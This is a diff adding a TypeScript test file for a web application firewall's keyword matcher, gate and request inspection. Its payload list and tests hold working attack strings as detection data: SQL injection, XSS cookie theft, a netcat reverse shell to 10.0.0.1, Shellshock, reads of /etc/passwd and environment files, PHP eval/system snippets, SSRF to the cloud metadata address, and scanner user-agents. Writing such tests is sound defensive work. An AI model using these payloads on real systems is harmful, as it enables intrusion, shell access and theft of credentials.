@@ -1,0 +1,181 @@
+import { describe, expect, it } from 'vitest';
+import { DEFAULT_WAF_CONFIG } from '../../../lambdas/core/config/waf-config.ts';
+import { normalizeValue, toBase64View, toPathView, toShellView, toSqlView } from '../../../lambdas/core/waf/decode.ts';
+import { buildKeywordGate, gateOpen, gateSignature, scanKeywords } from '../../../lambdas/core/waf/gate.ts';
+import { ALL_SIGNATURES, compileWaf, inspectRequest } from '../../../lambdas/core/waf/index.ts';
+import { buildKeywordAutomaton } from '../../../lambdas/core/waf/keyword-automaton.ts';
+import type { InputView, Signature } from '../../../lambdas/core/waf/types.ts';
+import { BROWSER_HEADERS, get, json } from './helpers.ts';
+
+function viewsOf(raw: string): Record<InputView, string> {
+  const text = normalizeValue(raw, true);
+  return {
+    text,
+    sql: toSqlView(text),
+    path: toPathView(text),
+    shell: toShellView(text),
+    base64: toBase64View(raw),
+    raw,
+  };
+}
+
+function groupsOf(signature: Signature): readonly (readonly string[])[] {
+  return [...(signature.anyOf ? [signature.anyOf] : []), ...(signature.allOf ?? [])];
+}
+
+/** Attacks that exercise the signatures with a keyword gate beyond a single character. */
+const GATED_PAYLOADS = [
+  "1' or sleep(5)-- -",
+  "1' and ascii(substring((select user()),1,1))>64--",
+  '1; drop table users',
+  "1; exec master..xp_cmdshell 'ping 10.0.0.1'",
+  'char(65)+char(66)',
+  "concat('a','b')",
+  '<img src=x onerror=alert(document.cookie)>',
+  'javascript:window.location="http://evil"',
+  '; cat /etc/passwd',
+  '| nc -e /bin/sh 10.0.0.1 4444',
+  '() { :; }; /bin/bash -c id',
+  '& dir c:\\',
+  '| type c:\\boot.ini',
+  'cat /etc/passwd',
+  'ping -n 5 127.0.0.1',
+  'for /f %i in (whoami) do echo %i',
+  "system($_GET['c'])",
+  "eval(base64_decode('ZWNobyAx'))",
+  'gzinflate(base64_decode("x"))',
+  '${@system(id)}',
+  'chr(65).chr(66)',
+  "__import__('os').system('id')",
+  "os.system('id')",
+  '/etc/passwd',
+  '/proc/self/environ',
+  'c:/windows/win.ini',
+  '/var/log/apache2/access.log',
+  'php://filter/convert.base64-encode/resource=index.php',
+  'phar://upload.jpg/shell',
+  'gopher://127.0.0.1:25/_HELO',
+  'http://169.254.169.254/latest/meta-data/',
+  'shell.php',
+  'Mozilla/5.0 sqlmap/1.5#stable',
+  'Mozilla/5.0 Nmap Scripting Engine',
+  'masscan/1.3 (https://github.com/robertdavidgraham/masscan)',
+  'Expanse, a Palo Alto Networks company, searches across the global IPv4 space (scanning)',
+  "1'||'a",
+  'x|',
+  '42)',
+];
+
+describe('WAF keyword automaton', () => {
+  it('finds overlapping fragments in one pass, ignoring ASCII case', () => {
+    // Prepare
+    const automaton = buildKeywordAutomaton([['union'], ['on'], ['sel', 'zzz'], ['select from']]);
+    const seen = new Int32Array(automaton.groupCount);
+    // Act
+    automaton.scan('1 UNION SELECT', seen, 7);
+    // Assess
+    const marked = [['union'], ['on'], ['sel', 'zzz'], ['select from']].map(
+      (group) => seen[automaton.groupIdOf(group)] === 7,
+    );
+    expect(marked).toEqual([true, true, true, false]);
+  });
+
+  it('does not join fragment letters across a non-ASCII character', () => {
+    // Prepare
+    const automaton = buildKeywordAutomaton([['ab']]);
+    const seen = new Int32Array(automaton.groupCount);
+    // Act
+    automaton.scan('aéb', seen, 1);
+    // Assess
+    expect(seen[automaton.groupIdOf(['ab'])]).toBe(0);
+  });
+});
+
+describe('WAF keyword gate', () => {
+  it('opens every signature on a text holding one fragment of each of its groups', () => {
+    // Prepare
+    const gate = buildKeywordGate(ALL_SIGNATURES);
+    // Act
+    const closed = ALL_SIGNATURES.filter((signature) => {
+      const groups = groupsOf(signature);
+      const text = `x ${groups.map((group) => group[group.length - 1]).join(' ')} y`;
+      return !gateOpen(gate.seen.text, gateSignature(gate, signature), scanKeywords(gate, 'text', text));
+    }).map((s) => s.id);
+    // Assess
+    expect(closed).toEqual([]);
+  });
+
+  it('never keeps a signature from a payload its regex matches', () => {
+    // Prepare
+    const gate = buildKeywordGate(ALL_SIGNATURES);
+    const keyworded = ALL_SIGNATURES.filter((s) => (s.allOf?.length ?? 0) > 0 || s.id.startsWith('SCAN-1'));
+    const matchedIds = new Set<string>();
+    const wronglyClosed: string[] = [];
+    // Act
+    for (const payload of GATED_PAYLOADS) {
+      const views = viewsOf(payload);
+      for (const signature of ALL_SIGNATURES) {
+        const view = views[signature.view];
+        if (!signature.pattern?.test(view)) continue;
+        matchedIds.add(signature.id);
+        const stamp = scanKeywords(gate, signature.view, view);
+        if (!gateOpen(gate.seen[signature.view], gateSignature(gate, signature), stamp)) {
+          wronglyClosed.push(`${signature.id}: ${payload}`);
+        }
+      }
+    }
+    // Assess
+    expect(wronglyClosed).toEqual([]);
+    expect(keyworded.map((s) => s.id).filter((id) => !matchedIds.has(id))).toEqual([]);
+  });
+});
+
+describe('WAF engine fast paths', () => {
+  const balanced = compileWaf(DEFAULT_WAF_CONFIG);
+  const prose =
+    "I've worn these for 3 weeks on mixed terrain; the grip is excellent and they're light (size 42). ".repeat(22);
+
+  it('allows a browser User-Agent it has never seen', () => {
+    // Prepare
+    const request = get('/api/v1/products?page=2', {
+      ...BROWSER_HEADERS,
+      'user-agent': `Mozilla/5.0 (Macintosh; Intel Mac OS X 14_4) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Safari/605.1.15 Build/${Date.now()}`,
+    });
+    // Act
+    const decision = inspectRequest(balanced, request);
+    // Assess
+    expect(decision.action).toBe('allow');
+  });
+
+  it('blocks a browser User-Agent carrying a command injection', () => {
+    // Prepare
+    const request = get('/api/v1/products?page=2', {
+      ...BROWSER_HEADERS,
+      'user-agent': 'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36; cat /etc/passwd',
+    });
+    // Act
+    const decision = inspectRequest(balanced, request);
+    // Assess
+    expect(decision.action).toBe('block');
+    expect(decision.matches.some((m) => m.location === 'header:user-agent')).toBe(true);
+  });
+
+  it('allows a 2 KB JSON text field of ordinary prose', () => {
+    // Prepare
+    const request = json({ title: "Customer's review", body: prose });
+    // Act
+    const decision = inspectRequest(balanced, request);
+    // Assess
+    expect(decision.action).toBe('allow');
+  });
+
+  it('blocks a UNION SELECT at the end of a 2 KB JSON text field', () => {
+    // Prepare
+    const request = json({ title: "Customer's review", body: `${prose}' UNION SELECT password FROM users-- -` });
+    // Act
+    const decision = inspectRequest(balanced, request);
+    // Assess
+    expect(decision.action).toBe('block');
+    expect(decision.threatType).toBe('sql_injection');
+  });
+});
